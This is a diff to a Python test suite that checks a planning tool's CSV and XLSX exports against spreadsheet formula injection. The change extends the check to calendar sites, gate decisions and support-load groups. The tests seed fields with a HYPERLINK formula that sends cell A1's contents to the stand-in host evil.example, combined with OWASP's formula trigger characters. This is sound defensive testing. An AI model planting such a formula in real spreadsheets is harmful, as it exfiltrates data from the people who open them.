@@ -21,10 +21,20 @@ from advisor.model.facts import TEXT, Assessment, parse_assessment
 from advisor.model.i18n import gettext
 from advisor.model.plan import Plan
 from advisor.model.vocabulary import Language, origin, term
-from advisor.output.export import METHOD_COLUMNS, PREREQUISITE_COLUMNS, RATIONALE_COLUMNS, to_html, to_xlsx
+from advisor.output.export import (
+    CALENDAR_COLUMNS,
+    GATE_COLUMNS,
+    METHOD_COLUMNS,
+    PREREQUISITE_COLUMNS,
+    RATIONALE_COLUMNS,
+    to_html,
+    to_xlsx,
+)
 from advisor.output.formats import FORMATS, ExportFormat, export
-from advisor.output.render import CSV_COLUMNS, to_csv, to_markdown, to_table
+from advisor.output.render import CSV_COLUMNS, SUPPORT_LOAD_COLUMNS, to_csv, to_markdown, to_table
 from advisor.planning.planner import make_plan
+from advisor.quality.scenarios import load_scenario
+from tests.conftest import RULES
 
 # OWASP's list of characters that make a spreadsheet read a cell as a formula.
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
@@ -99,7 +109,20 @@ READERS = {"csv": _read_csv, "xlsx": _read_xlsx}
 TABULAR = [spec.name for spec in FORMATS.values() if spec.tabular]
 # Every text of the plan that comes from the answers or the rule files (group ids changed the same
 # way wherever they are used, so that the plan still holds together).
-HOSTILE_KEYS = ("organisation", "name", "title", "text", "rule", "source", "version", "id", "group")
+HOSTILE_KEYS = (
+    "organisation",
+    "name",
+    "title",
+    "text",
+    "rule",
+    "source",
+    "version",
+    "id",
+    "group",
+    "location",  # an event's site
+    "by",  # who took a gate's decision, and why
+    "note",
+)
 MARK = 'HYPERLINK("http://evil.example/?x="&A1,"Click")'
 
 
@@ -140,6 +163,48 @@ def test_no_cell_of_any_tabular_export_is_a_formula(
     assert {c.sheet for c in hostile} == {c.sheet for c in cells}  # every sheet carries it
     starts = (trigger + MARK, trigger.replace("\r", "\n") + MARK)  # XML reads a CR back as a line feed
     assert any(c.text.lstrip("'").startswith(starts) for c in hostile)  # at a cell's start too
+
+
+def _under_way(engine: Engine) -> Plan:
+    """Drivers with a tech fair at each of two sites and a decision recorded at the first gate: a
+    plan whose calendar sheets show every kind of text they hold."""
+    scenario = load_scenario(RULES / "scenarios" / "drivers-tech-fair-per-site.yaml")
+    answers = dict(scenario.assessment)
+    with engine.version() as compiled:
+        first = make_plan(parse_assessment(answers), compiled, "en")
+        after = {"phase": first.gates[0].after.phase, "number": first.gates[0].after.number}
+        answers["gate_decisions"] = [
+            {"after": after, "outcome": "go", "by": "Anna", "date": first.gates[0].date, "note": "All well"}
+        ]
+        return make_plan(parse_assessment(answers), compiled, "en")
+
+
+@pytest.mark.parametrize("trigger", TRIGGERS)
+@pytest.mark.parametrize("kind", TABULAR)
+def test_no_cell_of_the_calendar_the_gates_or_the_load_is_a_formula(
+    engine: Engine, kind: str, trigger: str
+) -> None:
+    """The sites of the tech fairs, who decided at a gate and why: text from the answers, in the
+    workbook's Calendar, Gates and Support load sheets (the CSV holds none of them)."""
+    ordinary = _under_way(engine)
+    assert any(e.location for e in ordinary.calendar)
+    assert ordinary.gates[0].decisions
+    plan = Plan.model_validate(_hostile(ordinary.model_dump(mode="json"), trigger))
+
+    cells = READERS[kind](export(plan, kind))
+    assert [f"{c.sheet}!{c.column}: {c.text!r}" for c in cells if c.live] == []
+    if kind != "xlsx":
+        return
+    from openpyxl.utils import get_column_letter
+
+    starts = (trigger + MARK, trigger.replace("\r", "\n") + MARK)
+    hostile = {(c.sheet, c.column) for c in cells if c.text.startswith(starts)}
+    assert {
+        ("Calendar", get_column_letter(CALENDAR_COLUMNS.index("Site") + 1)),
+        ("Gates", get_column_letter(GATE_COLUMNS.index("Decided by") + 1)),
+        ("Gates", get_column_letter(GATE_COLUMNS.index("Text") + 1)),  # the decision's note
+        ("Support load", get_column_letter(SUPPORT_LOAD_COLUMNS.index("Groups") + 1)),
+    } <= hostile
 
 
 def test_a_neutralised_cell_keeps_its_text_after_the_quote(contoso: Assessment, engine: Engine) -> None:
@@ -406,7 +471,7 @@ def test_the_workbook_has_a_methods_and_a_prerequisites_sheet(
 
     plan = _contoso(contoso, engine, language)
     book = load_workbook(io.BytesIO(to_xlsx(plan)))
-    assert book.sheetnames[3:] == (
+    assert book.sheetnames[3:5] == (
         ["Methods", "Prerequisites"] if language == "en" else ["Metoder", "Förutsättningar"]
     )
     methods: list[list[Any]] = [list(row) for row in book.worksheets[3].iter_rows(values_only=True)]
